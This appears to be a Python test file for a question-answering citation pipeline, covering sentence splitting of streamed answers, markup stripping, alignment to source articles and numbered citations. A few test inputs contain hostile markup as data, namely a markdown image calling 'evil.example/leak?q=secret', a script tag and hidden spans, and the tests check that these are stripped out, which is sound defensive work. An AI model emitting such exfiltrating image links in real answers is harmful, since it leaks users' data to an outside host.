"""Sentences of a model's answer: cut from a stream, aligned to the articles, verified, cited."""

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from qa.cite import Splitter, Statement, Written, align, number, sources, statement
from qa.cite.quantities import quantities
from qa.ingest import read_folder
from qa.text import sentence_spans
from qa.types import Article, Evidence, Passage, Quote, Support

SEEDS = Path(__file__).parent.parent / "seeds"
ARTICLES = read_folder(SEEDS, max_file_mb=5).articles


def written(*deltas: str) -> list[Written]:
    splitter = Splitter()
    return [sentence for delta in deltas for sentence in splitter.feed(delta)] + splitter.close()


def texts(*deltas: str) -> list[str]:
    return [sentence.text for sentence in written(*deltas)]


# Sentences from a stream


@pytest.mark.parametrize(
    "answer, expected",
    [
        ("NATO met in Prague. It was opened by J. Smith.", ["NATO met in Prague.", "It was opened by J. Smith."]),
        ("U.S. troops left, e.g. by ship. It took 3.5 days.", ["U.S. troops left, e.g. by ship.", "It took 3.5 days."]),
        ("“Why now?” Jan Lipavský asked. Nobody knew.", ["“Why now?” Jan Lipavský asked.", "Nobody knew."]),
        ('He said "No." They left.', ['He said "No."', "They left."]),
        ("Points:\n- The first one\n- The second one.\n1. A third.", 
         ["Points:", "The first one", "The second one.", "A third."]),
        ("# Summary\n\n**Key facts**\n\nNATO met.", ["NATO met."]),
        ("It cost $5.2 billion. 21 councillors agreed.", ["It cost $5.2 billion.", "21 councillors agreed."]),
        ("The **bold** _slanted_ `code` stays; snake_case too.", ["The bold slanted code stays; snake_case too."]),
        ("See [the page](https://evil.example/a_(b)?q=1) now.", ["See the page now."]),
        ("Look ![x](https://evil.example/leak?q=secret) here.", ["Look here."]),
        ("A <b>bold</b> word.<!-- hidden --> More <script>alert(1)</script>text.", ["A bold word.", "More text."]),
        ('Seen. <span style="display:none">Unseen. Quite.</span>Seen again.', ["Seen.", "Seen again."]),
        ("<think>They met. Did they?</think>\n\nNATO met.", ["NATO met."]),
        ("If x < 5 then y > 3. Fine.", ["If x < 5 then y > 3.", "Fine."]),
        ("[1]: https://evil.example\nText stays.", ["Text stays."]),
    ],
)  # fmt: skip
def test_an_answer_is_cut_into_sentences_without_markup(answer: str, expected: list[str]) -> None:
    assert texts(answer) == expected


@pytest.mark.parametrize(
    "answer, hints",
    [
        ("NATO met [1].", (1,)), ("NATO met.[1][2]", (1, 2)), ("NATO met [1, 3].", (1, 3)), ("NATO met. [[2]]", (2,)),
        ("NATO met【1】.", (1,)), ("NATO met ［2］.", (2,)), ("NATO met [1-3].", (1, 2, 3)), ("[2] NATO met.", (2,)),
        ("NATO met [Source 2].", (2,)), ("NATO met【4†source】.", (4,)), ("NATO met [^1].", (1,)),
    ],
)  # fmt: skip
def test_marks_are_taken_out_and_kept_as_hints(answer: str, hints: tuple[int, ...]) -> None:
    assert written(answer) == [Written("NATO met.", hints)]


def test_a_bracketed_number_of_the_text_is_no_mark() -> None:
    assert written("It (1) said [sic] so.") == [Written("It (1) said [sic] so.")]


def test_a_mark_belongs_to_the_sentence_before_it() -> None:
    assert [sentence.hints for sentence in written("NATO met. [1] It ended. [2]")] == [(1,), (2,)]


@pytest.mark.parametrize("cut", ["NATO met in Prague. It was opened by the", "NATO met in Prague. It was opened [1"])
def test_a_last_sentence_that_is_broken_off_is_known_as_such(cut: str) -> None:
    assert [sentence.finished for sentence in written(cut)] == [True, False]


def test_a_sentence_comes_out_as_soon_as_the_next_one_begins() -> None:
    splitter = Splitter()
    assert splitter.feed("NATO met in Prague [1") == []
    assert splitter.feed("]. ") == []
    assert splitter.feed("It") == [Written("NATO met in Prague.", (1,))]


MARKUP = st.sampled_from(
    ["NATO met in Prague", ". ", "[1]", "[", "]", "1", ", ", "2", "It ended", "\n", "- ", "**", "_", "“", "”", '"',
     "<!--",
     "-->", "<b>", "</b>", "<", ">", "![", "](", "http://x.y", ")", "(", "# ", "【", "】", "U.S. ", "3.5", "Smith said",
     "!", "? "]
)  # fmt: skip


@given(parts=st.lists(MARKUP, max_size=25), cuts=st.lists(st.integers(1, 9), min_size=1, max_size=60))
@settings(max_examples=150, deadline=None)
def test_how_an_answer_is_chopped_makes_no_difference(parts: list[str], cuts: list[int]) -> None:
    answer = "".join(parts)
    pieces, at = [], 0
    for size in cuts:
        pieces.append(answer[at : at + size])
        at += size
    assert written(*pieces, answer[at:]) == written(answer)


@given(st.lists(MARKUP, max_size=25))
@settings(max_examples=150, deadline=None)
def test_no_mark_image_or_element_is_left(parts: list[str]) -> None:
    for text in texts("".join(parts)):
        assert not any(left in text for left in ("[1]", "![", "](http", "<b>", "<!--", "**"))


# Alignment

OPENED = (
    "The meeting in Prague was opened by NATO Secretary General Jens Stoltenberg on 30 May, who presented 40 proposals."
)
SAID = "“NATO’s doors must remain open to new members,” said Foreign Minister Jan Lipavský."


def quote(text: str, start: int = 0) -> Quote:
    return Quote("a", "Title", None, text, start, start + len(text))


def certain(_claim: str, _evidence: str) -> tuple[float, float]:
    """A judge that believes everything."""
    return 10.0, 10.0


@pytest.mark.parametrize("sentence", ["It cost €5 million.", "It cost 5% million.", "It cost -$5 million."])
def test_another_sign_is_not_verbatim(sentence: str) -> None:
    assert align(sentence, [quote("It cost $5 million.")], [1.0], certain).support is not Support.VERBATIM


def test_who_speaks_in_the_quote_speaks_in_the_sentence() -> None:
    pair = [quote(SAID), quote("Jens Stoltenberg said that the summit is in July.", 300)]
    lie = "Jens Stoltenberg said that NATO’s doors must remain open to new members."
    assert align(lie, pair, [0.9, 0.5], certain).support is Support.UNSUPPORTED


def test_the_articles_own_sentence_is_verbatim() -> None:
    aligned = align(OPENED, [quote(SAID), quote(OPENED, 100)], [0.2, 1.0], certain)
    assert (aligned.support, aligned.quotes) == (Support.VERBATIM, (quote(OPENED, 100),))


@pytest.mark.parametrize(
    "sentence",
    [
        "The meeting in Prague was opened by Jens Stoltenberg.",
        "Jens Stoltenberg presented 40 proposals at the Prague meeting.",
    ],
)
def test_a_shorter_sentence_is_supported(sentence: str) -> None:
    aligned = align(sentence, [quote(SAID), quote(OPENED, 100)], [0.2, 0.8], certain)
    assert (aligned.support, aligned.quotes) == (Support.SUPPORTED, (quote(OPENED, 100),))


def test_what_one_sentence_does_not_cover_is_cited_from_two() -> None:
    pair = [quote("Jan Lipavský spoke in Prague."), quote("He mentioned the munitions initiative.", 30)]
    aligned = align("Jan Lipavský mentioned the munitions initiative.", pair, [0.5, 0.7], certain)
    assert aligned.support is Support.SUPPORTED
    assert set(aligned.quotes) == set(pair)


def test_a_hint_decides_between_equals_only() -> None:
    twice = [quote(OPENED), quote(OPENED, 200)]
    assert align(OPENED, twice, [1.0, 1.0], certain, hinted=[1]).quotes == (twice[1],)
    aligned = align("Jens Stoltenberg opened it.", [quote(SAID), quote(OPENED, 100)], [0.2, 0.7], certain, hinted=[0])
    assert aligned.quotes[0].start == 100


def test_without_evidence_nothing_is_supported() -> None:
    assert align("NATO met.", [], [], certain).support is Support.UNSUPPORTED


SENTENCES = [article.text[start:end] for article in ARTICLES for start, end in sentence_spans(article.text)]


@given(
    at=st.integers(0, len(SENTENCES) - 1),
    value=st.integers(3, 10**7),
    tail=st.sampled_from(["", " per cent", " tanks"]),
)
@settings(max_examples=60, deadline=None)
def test_a_sentence_whose_number_is_in_no_quote_is_never_supported(at: int, value: int, tail: str) -> None:
    lie = f"{SENTENCES[at].rstrip('.”')} with {value:,}{tail}."
    told = {quantity.value for sentence in SENTENCES for quantity in quantities(sentence)}
    aligned = align(lie, [quote(text) for text in SENTENCES], [1.0] * len(SENTENCES), certain)
    assert value in told or aligned.support is Support.UNSUPPORTED


@given(
    at=st.integers(0, len(SENTENCES) - 1),
    lie=st.sampled_from(
        ["In Lisbon, {}", "On 7 October, {}", "In October, {}", "Marta Novak said that {}", "{} in 1987."]
    ),
)
@settings(max_examples=60, deadline=None)
def test_a_sentence_with_a_date_or_a_name_that_is_in_no_quote_is_never_supported(at: int, lie: str) -> None:
    quotes = [quote(text) for text in SENTENCES]
    aligned = align(lie.format(SENTENCES[at].rstrip(".")), quotes, [1.0] * len(SENTENCES), certain)
    assert aligned.support is Support.UNSUPPORTED


# From passages to numbered citations


def evidence(article: Article) -> list[Evidence]:
    spans = sentence_spans(article.text)
    groups = [(spans[n][0], spans[min(n + 3, len(spans) - 1)][1]) for n in range(0, len(spans), 2)]
    return [
        Evidence(Passage(f"{article.id}-{a}", article.id, article.title, None, article.text[a:b], a, b), 1.0)
        for a, b in groups
    ]  # fmt: skip


@given(st.lists(st.tuples(st.integers(0, len(SENTENCES) - 1), st.integers(0, 60)), min_size=1, max_size=5))
@settings(max_examples=40, deadline=None)
def test_every_citation_is_the_article_at_its_offsets(cuts: list[tuple[int, int]]) -> None:
    by_id = {article.id: article for article in ARTICLES}
    found = sources([item for article in ARTICLES for item in evidence(article)])
    answer = [SENTENCES[at][:-cut] if cut else SENTENCES[at] for at, cut in cuts if len(SENTENCES[at]) > cut]
    text, sentences, citations = number(
        [statement(align(one, found.quotes, [0.5] * len(found.quotes), certain)) for one in answer]
    )
    assert [citation.n for citation in citations] == list(range(1, len(citations) + 1))
    assert all(by_id[c.article_id].text[c.start : c.end] == c.quote for c in citations)
    assert all(f"[{n}]" in text for sentence in sentences for n in sentence.citations)
    assert all(bool(sentence.citations) == (sentence.support is not Support.UNSUPPORTED) for sentence in sentences)


def test_a_sentence_in_two_passages_is_one_quote_and_marks_count_passages() -> None:
    found = sources(evidence(ARTICLES[0]))
    assert len(set(found.quotes)) == len(found.quotes)
    assert found.hinted([1]) & found.hinted([2])
    assert found.hinted([0, 999]) == frozenset()


def test_an_unsupported_sentence_is_listed_and_withheld() -> None:
    right = Statement(("NATO met.",), (quote("NATO met."),), 0.9)
    wrong = Statement(("NATO left.",), (quote("NATO met."),), 0.1, Support.UNSUPPORTED)
    text, sentences, citations = number([wrong, right, right])
    assert text == "NATO met. [1] NATO met. [1]"
    assert [sentence.citations for sentence in sentences] == [(), (1,), (1,)]
    assert len(citations) == 1
